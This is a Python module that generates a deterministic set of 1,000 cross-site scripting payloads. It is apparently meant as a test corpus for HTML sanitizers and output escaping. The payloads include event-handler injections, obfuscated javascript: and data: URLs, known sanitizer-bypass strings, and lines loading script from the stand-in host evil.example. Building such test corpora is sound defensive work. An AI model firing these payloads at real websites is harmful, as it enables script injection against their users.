"""A thousand texts that would run a script if any outlet let them, made from what browsers are known to fall for."""

from __future__ import annotations

from html import escape
from itertools import islice, product

RUN = "hit()"
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
TAGS = (
    "<img src=x {h}={r}>",
    "<svg {h}={r}>",
    "<svg><animate {h}={r} attributeName=x dur=1s>",
    "<body {h}={r}>",
    "<details open {h}={r}>",
    "<video src=x {h}={r}></video>",
    "<input autofocus {h}={r}>",
    "<math><mtext {h}={r}>x",
    "<p {h}={r} tabindex=1>x</p>",
    "<a {h}={r} href=#x>x</a>",
    "<custom-element {h}={r}>x",
    "<table><td {h}={r}>x",
)
SPELLINGS = (
    "{t}",
    '">{t}',
    "'>{t}",
    "</title>{t}",
    "</script>{t}",
    "</textarea>{t}",
    "--!>{t}",
    "]]>{t}",
    "{T}",
    "{{{{ {t} }}}}",
    "{t}\u0000",
)
SCHEMES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "\x01javascript:hit()",
    " javascript:hit()",
    "javascript\t:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "vbscript:hit()",
    "//evil.example/x.js",
    "blob:x",
)
LINKS = (
    '<a href="{u}">x</a>',
    '<a href="{u}" target=_self>x</a>',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>x</button></form>',
    '<button formaction="{u}">x</button>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<svg><a xlink:href="{u}"><text>x</text></a></svg>',
    '<math href="{u}">x</math>',
    '<link rel=import href="{u}">',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<base href="{u}">',
    '<img src="{u}">',
)
WHOLE = (
    "<script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script\x0c>hit()</script\x0c>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<math><mi><style><img src=x onerror=hit()></style></mi></math>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<style>@import '//evil.example';</style>",
    "<p style='background:url(javascript:hit())'>x</p>",
    "&lt;img src=x onerror=hit()&gt;",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml-stylesheet href='javascript:hit()'?>",
    "＜script＞hit()＜/script＞",
    "<embed embedtype='media' url='javascript:hit()'/>",
    "<a linktype='page' id='x\"><img src=x onerror=hit()>'>x</a>",
)


def payloads(count: int = 1000) -> list[str]:
    """That many texts, no two alike, the same in every run."""
    tagged = (
        spelling.format(t=tag.format(h=handler, r=RUN), T=tag.format(h=handler.upper(), r=RUN).replace("<", "<\n"))
        for spelling, tag, handler in product(SPELLINGS, TAGS, HANDLERS)
    )
    linked = (link.format(u=form) for link, url in product(LINKS, SCHEMES) for form in (url, escape(url)))
    every = dict.fromkeys([*WHOLE, *SCHEMES, *linked, *tagged])
    found = list(islice(every, count))
    assert len(found) == count
    return found
